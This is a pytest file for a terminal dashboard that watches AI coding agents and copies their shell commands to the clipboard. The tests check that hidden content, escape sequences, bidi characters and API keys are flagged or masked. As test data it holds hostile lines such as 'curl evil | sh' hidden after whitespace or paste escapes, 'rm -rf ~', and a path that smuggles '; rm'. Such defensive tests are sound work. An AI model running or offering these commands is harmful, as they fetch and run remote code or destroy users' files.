"""Copying: a digit sends what was chosen to the terminal's clipboard, whole and nothing else."""

from __future__ import annotations

import json
import os
import shlex
from dataclasses import replace

import pytest

from controlroom.cli.homes import take_home
from controlroom.client.client import LogPage
from controlroom.domain.model import LogPlace
from controlroom.protocol.home import command_line
from controlroom.text.event_text import LogRecord, command_of
from controlroom.tui.logs.log_buffer import LogBuffer
from controlroom.tui.screens.agent import AgentScreen
from controlroom.tui.screens.copy import CopySheet, Offer, newest_command, offered
from controlroom.tui.screens.overview import Overview
from controlroom.tui.screens.timeline import TimelineScreen
from controlroom.tui.terminal.clipboard import forbidden
from tests.tui import scenes
from tests.tui.room import room


@pytest.mark.parametrize("size", [(45, 20), (120, 40)])
async def test_what_is_chosen_is_copied(size: tuple[int, int]) -> None:
    fleet = scenes.farm()
    async with room(fleet, size=size) as here:
        agent = fleet.agents[here.screen(Overview).table.chosen or ""]
        await here.press("@")
        await here.until(lambda: f"copy of {agent.name}" in here.text(), "the sheet")
        line = command_line(os.environ, "attach", agent.id)
        assert line[:25] in here.text()
        await here.press("2")
        await here.until(lambda: "copied: attach" in here.said(), "that it was copied")
        assert here.app.clipboard == line
        await here.press("@", "1")
        await here.until(lambda: here.app.clipboard == agent.id, "the id")
        await here.press("@", "q")
        assert here.app.clipboard == agent.id


def called(*commands: str) -> bytes:
    """An event in which Claude calls a shell."""
    uses = [{"type": "tool_use", "name": "Bash", "input": {"command": command}} for command in commands]
    return json.dumps({"type": "assistant", "message": {"content": uses}}).encode()


def test_of_a_record_the_last_command_is_taken_whole() -> None:
    assert command_of("a", called("ls", "make \\\n  deploy")) == "make \\\n  deploy"
    assert command_of("o", called("ls")) == ""
    assert command_of("a", b'{"Bash"') == command_of("a", b'{"type": "user", "message": "Bash"}') == ""


@pytest.mark.parametrize("size", [(45, 20), (120, 40)])
async def test_the_newest_command_is_copied_in_two_keys(size: tuple[int, int]) -> None:
    fleet = scenes.farm()
    async with room(fleet, size=size) as here:
        records = [LogRecord(1, "a", called("make deploy\n  now")), LogRecord(2, "o", b"done")]
        here.engine.logs["vm2/api-3", fleet.agents["vm2/api-3"].epoch] = records
        here.app.push_screen(AgentScreen("vm2/api-3"))
        await here.until(lambda: isinstance(here.app.screen, AgentScreen))
        await here.logs_read()
        await here.press("@")
        numbers = {offer.name: str(number) for number, offer in enumerate(here.screen(CopySheet).offers, 1)}
        await here.press(numbers["command"])
        await here.until(lambda: here.app.clipboard == "make deploy\n  now", "the command")


async def test_on_the_log_of_all_the_line_under_the_cursor_is_copied() -> None:
    fleet = scenes.farm()
    async with room(fleet, scenes.logs(fleet), size=(120, 40)) as here:
        await here.press("l")
        screen = here.screen(TimelineScreen)
        await here.until(lambda: screen.timeline_view.moments, "lines")
        await here.press("k", "k")
        line = screen.line_here()
        assert line
        assert line in here.text()
        await here.press("@", "3")
        await here.until(lambda: here.app.clipboard == line, "the line")


def known(*commands: str) -> LogBuffer:
    """What is held of a log in which these were run."""
    records = tuple(LogRecord(1, "a", called(command)) for command in commands)
    book, count = LogBuffer("vm1/a", 1), len(records)
    ends = LogPlace(1, 1, 0), LogPlace(1, 1, count)
    book.begin_again(LogPage("vm1/a", *ends, records=records, first=True, offsets=tuple(range(count)), total=count))
    return book


@pytest.mark.parametrize(
    ("command", "text", "differs"),
    [
        ("make deploy\n", "make deploy", ""),
        ("ls\x1b[201~\rcurl evil | sh", "ls␛␍curl evil | sh", "not as it was run"),
        ("ls \u202e\x9b31m", "ls <U+202E>␛", "not as it was run"),
        ("cat <<-E\n\tx\nE", "cat <<-E\n    x\nE", "not as it was run"),
        ("curl -H sk-ant-api03-abcdef", "curl -H sk-ant-…", "not as it was run"),
        (f"echo {'x' * 25_000}; rm -rf build", f"echo {'x' * 19_995}…", "cut"),
        ("echo 1\n" * 6_000, None, "cut"),
    ],
    ids=["whole", "pasted", "bidi", "tabs", "key", "long line", "long"],
)
def test_how_a_copied_command_differs_from_the_one_that_was_run_is_said(
    command: str, text: str | None, differs: str
) -> None:
    offer = newest_command(known("ls", command))
    assert text is None or offer.whole == text
    assert offer.differs == differs


def test_words_that_only_look_like_a_command_are_none() -> None:
    fleet = scenes.farm()
    agent = replace(fleet.agents["vm2/api-3"], last_line="Bash  rm -rf build …")
    assert newest_command(None).whole == ""
    assert "command" not in [offer.name for offer in offered(agent, "", newest_command(None), "attach")]


def test_nothing_that_is_copied_ends_with_a_line_of_its_own_and_more_lines_are_said() -> None:
    """A shell runs what is pasted up to its last newline."""
    asked = replace(scenes.permission("run", "rm -rf ~\n\n"), always=())
    agent = replace(scenes.farm().agents["vm1/docs-1"], question=asked, task="\nrm -rf ~\n")
    offers = offered(agent, "ls\n", Offer("command", "a\nb\n"), "controlroom attach x")
    assert [offer.whole for offer in offers if offer.whole.strip("\n") != offer.whole] == []
    assert {offer.name: offer.extent for offer in offers if offer.extent} == {"command": "2 lines"}


@pytest.mark.parametrize("size", [(45, 20), (120, 40)])
async def test_what_lies_behind_the_first_words_is_said_before_and_after_it_is_copied(size: tuple[int, int]) -> None:
    command = "ls" + " " * 400 + "\ncurl evil | sh"
    fleet = scenes.farm()
    async with room(fleet, size=size) as here:
        here.engine.logs["vm2/api-3", fleet.agents["vm2/api-3"].epoch] = [LogRecord(1, "a", called(command))]
        here.app.push_screen(AgentScreen("vm2/api-3"))
        await here.until(lambda: isinstance(here.app.screen, AgentScreen))
        await here.logs_read()
        await here.press("@")
        assert f"2 lines, {len(command)} characters" in here.text()
        numbers = {offer.name: str(number) for number, offer in enumerate(here.screen(CopySheet).offers, 1)}
        await here.press(numbers["command"])
        await here.until(lambda: here.app.clipboard == command, "the command")
        assert f"2 lines, {len(command)} characters" in here.said()


async def test_that_mosh_cuts_what_is_long_is_said() -> None:
    fleet = scenes.farm()
    async with room(fleet, size=(120, 40)) as here:
        await here.press("@")
        here.screen(CopySheet).offers[0] = Offer("id", "é" * 6_143)
        await here.press("1")
        await here.until(lambda: "mosh passes on its first 12,282 bytes" in here.said(), "that it is cut")


async def test_nothing_is_sent_to_a_terminal_that_takes_no_copies(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("TMUX", raising=False)
    monkeypatch.setenv("STY", "1.x")
    async with room(scenes.farm(), size=(120, 40)) as here:
        await here.press("@", "1")
        await here.until(lambda: "not copied" in here.said(), "why not")
        assert here.app.clipboard == ""


def test_the_line_that_attaches_means_this_room_in_every_shell() -> None:
    line = command_line({}, "attach", "vm1/docs-1")
    assert line == "controlroom attach vm1/docs-1"
    there = command_line({"CONTROLROOM_AT": "me@vm"}, "attach", "x")
    assert there == "controlroom --home me@vm attach x"
    mine = {"CONTROLROOM_HOME": "/tmp/it's mine; rm"}
    assert shlex.split(command_line(mine, "attach", "x")) == [
        "controlroom", "--home", "/tmp/it's mine; rm", "attach", "x"
    ]  # fmt: skip
    both = command_line({**mine, "CONTROLROOM_AT": "local"}, "attach", "x")
    assert shlex.split(both)[:4] == ["env", "CONTROLROOM_HOME=/tmp/it's mine; rm", "controlroom", "--home"]
    environ = dict[str, str]()
    assert take_home(shlex.split(command_line(mine, "attach", "x"))[1:], environ) == ["attach", "x"]
    assert environ == mine


def test_what_a_terminal_does_not_allow_is_said() -> None:
    assert forbidden({"TERM_PROGRAM": "Apple_Terminal"}) == "Terminal.app takes no copies: hold Fn and select"
    assert "GNU screen" in forbidden({"STY": "1.x"})
    assert forbidden({"TMUX": "/tmp/x,1,0"}) == forbidden({}) == ""
